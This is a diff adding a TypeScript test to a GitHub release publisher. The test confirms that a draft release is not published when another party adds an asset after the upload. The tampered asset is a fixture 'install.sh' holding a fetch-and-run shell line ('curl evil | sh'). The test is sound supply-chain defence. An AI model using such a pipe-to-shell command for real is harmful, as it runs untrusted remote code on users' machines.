@@ -9,7 +9,7 @@ import type { Logger } from '../../src/core/logger.js';
 import type { RetryPolicy } from '../../src/core/retry.js';
 import { createGitHubClient } from '../../src/github/attestations.js';
 import { githubReleases, type ReleasesPort } from '../../src/github/releases.js';
-import { MAX_RELEASE_NOTES_CHARACTERS, NOTES_BLOCK_END, NOTES_BLOCK_START, publishRelease, withVerificationBlock, type PublishAsset } from '../../src/release/publish.js';
+import { draftRelease, MAX_RELEASE_NOTES_CHARACTERS, NOTES_BLOCK_END, NOTES_BLOCK_START, publishDraft, publishRelease, withVerificationBlock, type PublishAsset } from '../../src/release/publish.js';
 import { RELEASE_PREDICATE_TYPE, startGitHubApi, type GitHubApiDouble, type StoredRelease } from '../support/github/index.js';
 
 const POLICY: RetryPolicy = { retries: 4, minDelayMs: 1, maxDelayMs: 4, factor: 2, budgetMs: 60_000, timeoutMs: 5000 };
@@ -151,6 +151,21 @@ describe('publishing to a GitHub release (against the API double)', () => {
     const quiet = recordingLogger();
     await publish(await files({ 'app-1.tgz': 'old build', 'app-2.tgz': 'new build', 'SHA256SUMS': 'new sums' }), 'block', quiet);
     assert.deepEqual(quiet.lines.filter((line) => line.startsWith('warn:')), []);
+  });
+
+  test('an asset added to the draft after this run filled it (by another run or a person, after the gate looked) is PUBLISH_DRAFT_CHANGED naming it, and nothing is published', async () => {
+    const assets = await files({ 'app.tgz': 'app bytes', 'SHA256SUMS': 'sums' });
+    const drafted = await draftRelease({ tag: 'v1.0.0', assets, notesBlock: 'block' }, { releases, logger: recordingLogger() });
+    assert.equal(drafted.kind, 'uploaded');
+    if (drafted.kind !== 'uploaded') return;
+    const release = releaseOf();
+    release.assets.push({ id: api.state.newId(), name: 'install.sh', label: '', contentType: 'text/plain', bytes: Buffer.from('curl evil | sh\n'), state: 'uploaded' });
+    await assert.rejects(publishDraft({ tag: 'v1.0.0', notesBlock: 'block' }, drafted, { releases, logger: recordingLogger() }), (error: Error & { code?: string }) => {
+      assert.equal(error.code, 'PUBLISH_DRAFT_CHANGED');
+      assert.match(error.message, /changed after this run uploaded to it, so it is not published: install\.sh was added$/);
+      return true;
+    });
+    assert.equal(releaseOf().draft, true);
   });
 
   test('an asset without GitHub\'s digest field is downloaded and hashed to compare', async () => {
